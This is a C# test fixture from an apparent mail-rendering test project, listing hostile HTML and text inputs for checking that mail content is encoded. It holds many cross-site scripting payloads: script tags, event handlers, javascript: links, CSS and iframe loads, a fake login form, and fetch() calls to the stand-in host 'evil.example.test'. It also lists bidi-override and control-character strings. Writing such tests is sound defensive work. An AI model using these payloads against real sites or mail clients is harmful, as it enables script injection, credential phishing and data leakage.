namespace Djrill.Net.Tests.Browser.Mails;

/// <summary>What a stranger may write. Each markup does something that can be seen where it is not encoded.</summary>
internal static class HostileText
{
    /// <summary>The host that nothing may ask.</summary>
    public const string Evil = "http://evil.example.test";

    private const string Run = "top.ran=1;document.title='ran';fetch('http://evil.example.test/ran')";

    public static readonly IReadOnlyList<string> Markup =
    [
        $"<script>{Run}</script>",
        $"<ScRiPt/x>{Run}</sCrIpT >",
        $"<script src={Evil}/a.js></script>",
        $"<img src=x onerror=\"{Run}\">",
        $"<svg onload=\"{Run}\"></svg>",
        $"<svg><script>{Run}</script></svg>",
        $"<svg><image href={Evil}/svg.png /></svg>",
        $"<math><mtext><img src={Evil}/math.png></mtext></math>",
        $"<body onload=\"{Run}\" onpageshow=\"{Run}\">",
        $"<details open ontoggle=\"{Run}\"><summary>x</summary></details>",
        $"<a href=\"javascript:{Run}\">Unsubscribe</a>",
        $"<a href=\"jav&#x09;ascript:{Run}\" style=\"position:fixed;inset:0\">x</a>",
        $"<iframe src={Evil}/frame></iframe>",
        $"<iframe srcdoc=\"&lt;img src={Evil}/srcdoc.png&gt;\"></iframe>",
        $"<object data={Evil}/object></object>",
        $"<embed src={Evil}/embed>",
        $"<link rel=stylesheet href={Evil}/a.css>",
        $"<style>@import url({Evil}/import.css);</style>",
        $"<style>body{{background:url({Evil}/body.png)}}</style>",
        $"<style>@font-face{{font-family:f;src:url({Evil}/f.woff)}} *{{font-family:f}}</style>",
        $"<p style=\"background:url({Evil}/style.png)\">x</p>",
        $"<p style=\"position:fixed;inset:0;z-index:9999;background:red;width:expression({Run})\">You are logged out</p>",
        $"<meta http-equiv=refresh content=\"0;url={Evil}/refresh\">",
        $"<base href={Evil}/><img src=base.png>",
        $"<form action={Evil}/post><input name=password autofocus onfocus=\"{Run}\"><button>Log in</button></form>",
        $"<input type=image src={Evil}/input.png>",
        $"<video autoplay src={Evil}/video poster={Evil}/poster.png></video>",
        $"<audio autoplay src={Evil}/audio></audio>",
        $"<picture><source srcset={Evil}/set.png><img src={Evil}/picture.png></picture>",
        $"<table background={Evil}/table.png><tr><td>x</table>",
        $"</textarea></script></style></title></pre><img src={Evil}/closed.png>",
        $"'\"><img src={Evil}/attribute.png>",
        "</bdi></dd></dl></section></main><main><h1>Another page</h1></main><footer>x</footer>",
        "<!-- ", "<plaintext>", "<textarea>", "<xmp>", "<title>Another title</title><main>", "<noscript><form></noscript><form>", "<![CDATA[ <nav>",
    ];

    /// <summary>What a mail's HTML does besides.</summary>
    public static readonly IReadOnlyList<string> OfMailsOnly =
    [
        $"<link rel=preconnect href={Evil}>",
        $"<link rel=prefetch href={Evil}/prefetch>",
        $"<link rel=preload as=image href={Evil}/preload>",
        $"<script>location='{Evil}/location'</script>",
        $"<script>parent.location='{Evil}/parent'</script>",
        $"<script>open('{Evil}/open')</script>",
        "<script>alert('A dialog')</script>",
        $"<a target=_top href={Evil}/top>x</a><img src={Evil}/top.png>",
    ];

    /// <summary>What cannot be seen, or moves what stands beside it.</summary>
    public static readonly IReadOnlyList<string> Invisible =
    [
        "", "\u202Egpj.exe", "\u2066\u2067", "\u200F\u061C", "\0", "\a\b\u001B[31m", "\r\n", "\uD800", "\uDC00\uD800", "\uFEFF\u200B", "\u2028\u2029", "\u0085\u00AD",
        "\U000E0041\U000E007F", "\uFFFE\uFFFF", "../../", "null", new('\u0301', 60),
    ];
}
